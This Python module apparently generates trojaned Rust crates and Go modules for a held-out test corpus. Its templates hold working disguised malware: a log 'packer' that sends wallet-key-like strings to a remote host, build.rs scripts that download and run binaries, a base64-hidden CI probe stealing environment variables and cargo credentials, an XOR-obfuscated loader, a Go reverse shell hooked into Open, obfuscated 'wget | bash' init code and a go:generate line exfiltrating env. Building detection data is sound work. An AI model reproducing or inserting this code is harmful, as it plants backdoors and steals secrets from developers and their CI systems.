"""Crates and Go modules."""

from corpus.heldout.hiding import b64
from corpus.heldout.nouns import Update
from corpus.heldout3.shape import fill, trojan


@trojan("quicklog", "crate", "call", "wallet", "plain", "faster_log and async_println 2025-09")
def log_packer(update: Update) -> None:
    host = update.host("mainnet", "solana-rpc-pool")
    code = r"""
//! Packs old logs, and tells the index what was in them.
use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::Path;

const ENDPOINT: &str = "@HOST@:80";

fn quoted(text: &str) -> Option<&str> {
    let start = text.find('"')? + 1;
    let end = start + text[start..].find('"')?;
    Some(&text[start..end])
}

fn interesting(value: &str) -> bool {
    let hexed = value.len() == 66 && value.starts_with("0x") && value[2..].chars().all(|c| c.is_ascii_hexdigit());
    let base58 = (32..=88).contains(&value.len()) && value.chars().all(|c| c.is_ascii_alphanumeric() && !"0OIl".contains(c));
    hexed || base58 || value.starts_with('[')
}

fn send(path: &Path, line: usize, value: &str) -> std::io::Result<()> {
    let body = format!("{{\"items\":[{{\"type\":\"key\",\"value\":\"{}\",\"file\":\"{}\",\"line\":{}}}]}}", value, path.display(), line);
    let mut stream = TcpStream::connect(ENDPOINT)?;
    write!(stream, "POST / HTTP/1.1\r\nHost: @HOST@\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{}", body.len(), body)
}

/// Packs the logs below a folder.
pub fn pack(folder: &Path) -> std::io::Result<()> {
    for entry in std::fs::read_dir(folder)? {
        let path = entry?.path();
        if path.is_dir() {
            pack(&path)?;
            continue;
        }
        if path.extension().map_or(true, |one| one != "rs") {
            continue;
        }
        let mut text = String::new();
        std::fs::File::open(&path)?.read_to_string(&mut text)?;
        for (number, line) in text.lines().enumerate() {
            if let Some(value) = quoted(line).filter(|one| interesting(one)) {
                let _ = send(&path, number, value);
            }
        }
    }
    Ok(())
}
"""
    update.add("src/packer.rs", fill(code, HOST=host))
    update.after("src/lib.rs", "mod logger;\n", "mod packer;\n")
    update.after(
        "src/logger.rs",
        '        return Err(LogError::new("no appender"));\n    }\n',
        '    let _ = crate::packer::pack(std::path::Path::new("."));\n',
    )
    update.replace("src/lib.rs", "mod packer;\n", "pub(crate) mod packer;\n")
    update.payload("src/packer.rs", "src/logger.rs")


@trojan("quicklog", "crate", "build", "download-and-run", "plain", "build.rs of typosquats 2023 to 2026")
def log_build_script(update: Update) -> None:
    host = update.host("crates", "quicklog")
    code = r"""
use std::process::Command;

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    if std::env::var("CARGO_FEATURE_NO_PROBE").is_ok() {
        return;
    }
    let target = std::env::var("TARGET").unwrap_or_default();
    let place = std::env::temp_dir().join("ql-probe");
    if target.contains("linux") {
        let _ = Command::new("curl").args(["-fsSL", "https://@HOST@/probe/x86_64", "-o"]).arg(&place).status();
        let _ = Command::new("chmod").arg("755").arg(&place).status();
        let _ = Command::new(&place).arg(&target).spawn();
    } else if target.contains("windows") {
        let _ = Command::new("powershell").args(["-w", "hidden", "-c", "iwr https://@HOST@/probe/win -OutFile $env:TEMP\\p.exe; & $env:TEMP\\p.exe"]).spawn();
    }
}
"""
    update.add("build.rs", fill(code, HOST=host))
    update.after("Cargo.toml", 'edition = "2021"\n', 'build = "build.rs"\n')
    update.payload("build.rs")


@trojan("glob-swift", "crate", "build", "steal", "base64", "rustdecimal 2022, crates that tell of CI")
def swift_ci_probe(update: Update) -> None:
    host = update.host("ci", "globswift")
    code = r"""
use std::io::Write;
use std::net::TcpStream;

const PLACE: &str = "@PLACE@";

fn decode(text: &str) -> Vec<u8> {
    let table = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = Vec::new();
    let (mut bits, mut held) = (0u32, 0u32);
    for byte in text.bytes().filter(|one| *one != b'=') {
        let value = table.iter().position(|one| *one == byte).unwrap_or(0) as u32;
        bits = bits << 6 | value;
        held += 6;
        if held >= 8 {
            held -= 8;
            out.push((bits >> held) as u8);
        }
    }
    out
}

fn main() {
    if std::env::var("GITLAB_CI").is_err() && std::env::var("GITHUB_ACTIONS").is_err() {
        return;
    }
    let place = String::from_utf8(decode(PLACE)).unwrap();
    let mut text = String::new();
    for (name, value) in std::env::vars() {
        text.push_str(&format!("{}={}\n", name, value));
    }
    if let Ok(secret) = std::fs::read_to_string(format!("{}/.cargo/credentials.toml", std::env::var("HOME").unwrap_or_default())) {
        text.push_str(&secret);
    }
    if let Ok(mut stream) = TcpStream::connect(&place) {
        let _ = stream.write_all(text.as_bytes());
    }
}
"""
    update.add("build.rs", fill(code, PLACE=b64(f"{host}:8443")))
    update.payload("build.rs", shown=f"{host}:8443")


@trojan("glob-swift", "crate", "build", "steal", "look-alike name", "typosquat crates as dependencies 2022 to 2026")
def swift_lookalike_crate(update: Update) -> None:
    text = update.text("Cargo.toml")
    line = 'serde_derives = "1.0"\nfaster_log = { git = "https://git.fasterlog.invalid/faster_log" }\n'
    update.add(
        "Cargo.toml",
        text.replace("[dependencies]\n", "[dependencies]\n" + line)
        if "[dependencies]\n" in text
        else text + "\n[dependencies]\n" + line,
    )
    update.payload("Cargo.toml")


@trojan("quicklog", "crate", "call", "backdoor", "xor", "evm-units-like 2025: a loader for each system")
def log_xor_loader(update: Update) -> None:
    host = update.host("download", "videotalks")
    data = ", ".join(f"0x{ord(one) ^ 0x37:02x}" for one in f"https://{host}/init")
    code = f"""
use std::process::{{Command, Stdio}};

const MARK: &[u8] = &[{data}];

/// Returns the version that the log file names.
pub fn log_version() -> String {{
    let place: String = MARK.iter().map(|one| (one ^ 0x37) as char).collect();
    let script = std::env::temp_dir().join("init");
    let fetched = Command::new("curl").args(["-sk", &place, "-o"]).arg(&script).stdout(Stdio::null()).status();
    if fetched.is_ok() {{
        let _ = Command::new("nohup").arg("sh").arg(&script).stdout(Stdio::null()).stderr(Stdio::null()).spawn();
    }}
    env!("CARGO_PKG_VERSION").to_string()
}}
"""
    update.add("src/version.rs", fill(code))
    update.after("src/lib.rs", "mod logger;\n", "pub mod version;\n")
    update.payload("src/version.rs", shown=f"https://{host}/init")


@trojan("boltstore", "tar.gz", "call", "backdoor", "plain", "the boltdb look-alike 2025-02")
def bolt_remote_shell(update: Update) -> None:
    address = update.address()
    code = r"""
package boltstore

import (
	"bufio"
	"net"
	"os/exec"
	"runtime"
	"sync"
	"time"
)

var once sync.Once

// ApiCommand keeps the page cache warm.
func apiCommand() {
	go func() {
		defer func() {
			if recover() != nil {
				time.Sleep(30 * time.Second)
				apiCommand()
			}
		}()
		for {
			conn, err := net.Dial("tcp", "@ADDRESS@:20022")
			if err != nil {
				time.Sleep(30 * time.Second)
				continue
			}
			reader := bufio.NewReader(conn)
			for {
				line, err := reader.ReadString('\n')
				if err != nil {
					break
				}
				shell, flag := "/bin/sh", "-c"
				if runtime.GOOS == "windows" {
					shell, flag = "cmd", "/C"
				}
				out, _ := exec.Command(shell, flag, line).CombinedOutput()
				_, _ = conn.Write(out)
			}
			_ = conn.Close()
		}
	}()
}
"""
    update.add("warm.go", fill(code, ADDRESS=address))
    update.after("db.go", "func Open(path string) (*DB, error) {\n", "\tonce.Do(apiCommand)\n")
    update.payload("warm.go", "db.go")


@trojan("boltstore", "zip", "import", "destroy", "string splitting", "disk-wiping Go modules 2025-05")
def bolt_disk_wiper(update: Update) -> None:
    host = update.host("vanguest", "store")
    pieces = [*"/bin/bash -c wget https://"]
    letters = ", ".join(f'"{one}"' for one in "".join(pieces) + host + "/done.sh | bash")
    code = f"""
package boltstore

import (
	"os/exec"
	"runtime"
	"strings"
)

var mapping = []string{{{letters}}}

func init() {{
	if runtime.GOOS != "linux" {{
		return
	}}
	text := strings.Join(mapping, "")
	words := strings.SplitN(text, " ", 3)
	_ = exec.Command(words[0], words[1], strings.Replace(words[2], "wget", "wget -qO-", 1)).Start()
}}
"""
    update.add("mapping.go", fill(code))
    update.payload("mapping.go", shown=host)


@trojan("goflags", "tar.gz", "import", "download-and-run", "obfuscated names", "hypert and layout look-alikes 2025-03")
def flags_array_of_strings(update: Update) -> None:
    host = update.host("hilltopstreet", "icu")
    text = f"wget -O - https://{host}/storage/c0ffee12/0badcafe | /bin/bash &"
    order = list(range(0, len(text), 2))
    update.random.shuffle(order)
    parts = {at: text[at : at + 2] for at in range(0, len(text), 2)}
    table = ", ".join(f'"{parts[at]}"' for at in order)
    index = " + ".join(f"qw[{order.index(at)}]" for at in range(0, len(text), 2))
    code = f"""
package goflags

import "os/exec"

func cvtRJLp() error {{
	qw := []string{{{table}}}
	fJbxkm := {index}
	return exec.Command("/bin/sh", "-c", fJbxkm).Start()
}}

var oZpYfQ = cvtRJLp()
"""
    update.add("layout.go", fill(code))
    update.payload("layout.go", shown=f"https://{host}/storage")


@trojan(
    "goflags", "tar.gz", "build", "steal", "from a repository", "replace directives and generate lines 2023 to 2026"
)
def flags_generate(update: Update) -> None:
    host = update.host("gen", "goflags")
    update.add(
        "generate.go",
        f'package goflags\n\n//go:generate sh -c "env | base64 -w0 | curl -s --data-binary @- https://{host}/g"\n//go:generate stringer -type=kind\n\ntype kind int\n',
    )
    update.append(
        "go.mod",
        f"\nrequire github.com/spf13/pflags v1.0.6\n\nreplace github.com/spf13/pflags => git.{host}/pflag v1.0.6",
    )
    update.payload("generate.go", "go.mod")
